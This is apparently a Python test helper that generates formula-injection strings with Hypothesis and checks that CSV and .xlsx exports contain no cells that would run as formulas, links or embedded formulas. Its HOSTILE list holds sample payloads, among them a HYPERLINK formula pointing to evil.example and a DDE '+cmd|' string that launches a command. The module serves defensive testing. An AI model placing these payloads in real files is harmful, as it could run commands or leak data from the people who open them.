"""What a spreadsheet would make of a file we write: the cells of a CSV, the formulas and links of a workbook.

A test of an export feeds hostile text (`hostile_text`) in and asserts that no CSV cell would run as a formula
(`runs_as_formula`) and that a workbook holds no formula and no link, only its text as written.
"""

from __future__ import annotations

import csv
import io
import zipfile
from xml.etree import ElementTree

from hypothesis import strategies as st

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x","England")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "=1+2",
)
_XLSX = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def hostile_text(max_size: int = 20) -> st.SearchStrategy[str]:
    """A formula-like string: one of OWASP's examples, or a formula character and any text after it."""
    built = st.builds(
        lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.text(max_size=max_size)
    )
    return st.one_of(st.sampled_from(HOSTILE), built)


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet opening a CSV would run this cell as a formula (a plain number is a number)."""
    return cell.startswith(FORMULA_STARTS) and not is_number(cell)


def formula_cells(text: str) -> list[str]:
    return [cell for cell in csv_cells(text) if runs_as_formula(cell)]


def workbook_parts(data: bytes) -> tuple[int, int, list[str]]:
    """(formula cells, links, every text of the shared strings) over every sheet of an .xlsx."""
    formulas = links = 0
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                sheet = ElementTree.fromstring(book.read(name))
                formulas += len(sheet.findall(f".//{_XLSX}f"))
                links += len(sheet.findall(f".//{_XLSX}hyperlink"))
        names = book.namelist()
        strings = (
            ["".join(node.itertext()) for node in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))]
            if "xl/sharedStrings.xml" in names
            else []
        )
    return formulas, links, strings
